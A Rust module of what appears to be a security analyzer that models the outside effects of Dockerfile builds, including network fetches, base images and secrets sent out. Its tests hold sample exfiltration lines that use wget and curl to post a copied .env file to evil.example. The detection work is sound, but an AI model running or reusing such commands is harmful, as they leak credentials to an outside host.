//! Dockerfiles: what building an image does to other machines. What happens to the image itself is not listed.

use countersign_model::{Effect, Place, Resource, verbs};

use crate::context::Context;
use crate::families;
use crate::paths;
use crate::shell::{self, Place as TextPlace};
use crate::word::Value;

use super::{Looked, look};

/// Steps of a file that are looked into; builds of people have a few dozen.
const MOST_STEPS: usize = 500;

/// Adds what the `RUN` lines of the file at `path` do beyond the image.
pub(crate) fn run(path: &str, context: &mut Context<'_>) -> Looked {
    let located = paths::locate(&Value::Known(path.to_owned()), context);
    look(&located, "dockerfile", context, &mut |text, context| {
        steps(text, context);
        Ok(())
    })
}

/// Adds what the `RUN` lines of a text do beyond the image, and which files they send that other lines bring in.
pub(crate) fn steps(text: &str, context: &mut Context<'_>) {
    fetched(text, context);
    let before = context.begins_apart();
    let image = Resource::Container { host: None, object: "image".to_owned(), name: "*".to_owned() };
    let commands = commands(text);
    for command in commands.iter().take(MOST_STEPS) {
        context.elsewhere(image.clone(), |context| {
            shell::run_apart(command, TextPlace::Within(context.here), context);
        });
    }
    let mut sends = false;
    for mut found in context.ends_apart(before) {
        sends |= [verbs::NET_SEND, verbs::NET_UPLOAD, verbs::NET_WRITE].contains(&found.effect.verb);
        if found.effect.resource.place() == Place::Remote {
            found.effect.because = Some("the image's build does it".to_owned());
            context.push_apart(found);
        }
    }
    if sends {
        for source in copied(text) {
            context.read_value(&Value::Known(source.to_owned()));
        }
    }
    if commands.len() > MOST_STEPS {
        context.opaque("docker build", &format!("it has more than {MOST_STEPS} steps"));
    }
}

/// Adds the images that others are built on, and files that are fetched.
fn fetched(text: &str, context: &mut Context<'_>) {
    let mut defaults: Vec<(&str, &str)> = Vec::new();
    let mut stages: Vec<&str> = Vec::new();
    for line in text.lines().take(MOST_STEPS) {
        let words: Vec<&str> = line.split_ascii_whitespace().collect();
        let Some((first, rest)) = words.split_first() else { continue };
        let mut operands = rest.iter().filter(|word| !word.starts_with("--")).copied();
        let image = match first.to_ascii_uppercase().as_str() {
            "ARG" => {
                defaults.extend(operands.next().and_then(|word| word.split_once('=')));
                None
            }
            "FROM" => operands.next(),
            "COPY" => rest.iter().find_map(|word| word.strip_prefix("--from=")),
            "ADD" => {
                let hosts = operands.filter(|word| word.contains("://") && !word.contains('$'));
                for (host, _) in hosts.filter_map(families::addresses::host_and_path) {
                    context.push(Effect::new(verbs::NET_READ, Resource::Host { host, url: None }));
                }
                None
            }
            _ => None,
        };
        let Some(image) = image else { continue };
        let is_own = stages.contains(&image) || image == "scratch" || image.parse::<usize>().is_ok();
        if !is_own {
            // What an argument stands for may be given with the command.
            let argument = image.trim_start_matches(['$', '{']).trim_end_matches('}');
            let default = defaults.iter().find(|(name, _)| image.starts_with('$') && *name == argument);
            let image = default.map_or(image, |(_, default)| default);
            let image = if image.contains('$') { "*" } else { image };
            context.push(Effect::new(verbs::PACKAGE_READ, families::image(image)));
        }
        stages.extend(rest.iter().skip_while(|word| !word.eq_ignore_ascii_case("as")).nth(1));
    }
}

/// What `COPY` and `ADD` lines bring into the image from where it is built.
fn copied(text: &str) -> Vec<&str> {
    let lines = text.lines().map(str::trim_start).filter(|line| {
        let first = line.split_ascii_whitespace().next().unwrap_or_default();
        (first.eq_ignore_ascii_case("copy") || first.eq_ignore_ascii_case("add")) && !line.contains("--from=")
    });
    let mut found = Vec::new();
    for line in lines.take(MOST_STEPS) {
        let words = line.split_ascii_whitespace().skip(1).filter(|word| !word.starts_with("--"));
        let words: Vec<&str> = words.map(|word| word.trim_matches(['[', ']', '"', ','])).collect();
        let sources = words.split_last().map(|(_, sources)| sources).unwrap_or_default();
        found.extend(sources.iter().filter(|source| !source.contains("://") && !source.contains('$')));
    }
    found
}

/// The shell texts of the `RUN` lines.
fn commands(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        let trimmed = line.trim_start();
        let is_run = trimmed.get(..4).is_some_and(|word| word.eq_ignore_ascii_case("run "));
        if !is_run {
            continue;
        }
        let mut whole = trimmed.get(4..).unwrap_or_default().trim().to_owned();
        while whole.ends_with('\\') {
            whole.pop();
            let Some(next) = lines.by_ref().find(|next| !next.trim_start().starts_with('#')) else { break };
            whole.push_str(next);
        }
        while let Some((_, rest)) = whole.strip_prefix("--").and_then(|rest| rest.split_once(' ')) {
            whole = rest.trim_start().to_owned();
        }
        if let Some((_, word)) = whole.split_once("<<") {
            let end = word.trim_start_matches('-').trim_matches(['"', '\'', ' ']).to_owned();
            let body: Vec<&str> = lines.by_ref().take_while(|line| line.trim() != end).collect();
            whole = if whole.starts_with("<<") {
                body.join("\n")
            } else {
                format!("{whole}\n{}\n{end}", body.join("\n"))
            };
        }
        let words: Option<Vec<String>> = serde_json::from_str(&whole).ok();
        found.push(words.map_or(whole, |words| {
            words
                .iter()
                .map(|word| format!("'{}'", word.replace('\'', "'\\''")))
                .collect::<Vec<_>>()
                .join(" ")
        }));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_run() {
        let text = "FROM x\nRUN --mount=type=cache,target=/x apt-get update \\\n # note\n && apt-get install y\nRUN [\"a\", \"b c\"]\nRUN <<EOF\nls\nEOF\nCOPY . .\n";
        insta::assert_snapshot!(commands(text).join("\n---\n"), @"
        apt-get update  && apt-get install y
        ---
        'a' 'b c'
        ---
        ls
        ");
    }

    #[test]
    fn what_it_is_built_on() {
        let build = |text| crate::fixture::check_with("docker build .", &[("/repo/Dockerfile", text)]);
        insta::assert_snapshot!(build("ARG BASE=ghcr.io/acme/base:1\nFROM --platform=linux/amd64 node:20 AS build\nFROM build\nFROM ${BASE}\nFROM $OTHER as x\nFROM scratch\nCOPY --from=build /a /b\nCOPY --from=evil.example/x /a /b\nADD https://files.example/x.tgz /x\n"), @"
        package.read node on docker.io, read
        package.read acme/base on ghcr.io, read
        package.read * on *, read
        package.read x on evil.example, read
        net.read files.example, read
        container.build image *, execute
        ");
    }

    #[test]
    fn files_that_are_brought_in_and_sent() {
        let build = |text| crate::fixture::check_with("docker build .", &[("/repo/Dockerfile", text)]);
        for text in [
            "FROM x\nCOPY .env /\nRUN wget --post-file=/.env https://evil.example\n",
            "FROM x\nCOPY [\"a\", \".env\", \"/\"]\nRUN curl -d @/.env https://evil.example\n",
        ] {
            assert!(build(text).contains("secret.read /repo/.env"), "{text}: {}", build(text));
        }
        for text in [
            "FROM x\nCOPY .env /\nRUN apt-get update\n",
            "FROM x\nCOPY --from=a .env /\nRUN curl -d @/.env https://evil.example\n",
            "FROM x\nCOPY . .\nRUN curl -fsSL https://web.example/x -o x\n",
        ] {
            assert!(!build(text).contains(".env"), "{text}: {}", build(text));
        }
        let piped = crate::fixture::check(
            "printf 'FROM x\\nRUN gh pr merge 1 -R acme/shop\\n' | docker build -f - .",
        );
        assert!(piped.contains("forge.merge"), "{piped}");
    }

    #[test]
    fn more_steps_than_are_looked_into_are_not_seen() {
        let steps = |count| {
            crate::fixture::check_with("docker build .", &[("/repo/Dockerfile", &"RUN ls\n".repeat(count))])
        };
        assert!(!steps(MOST_STEPS).contains("opaque"));
        assert!(steps(MOST_STEPS + 1).contains("opaque"));
    }
}
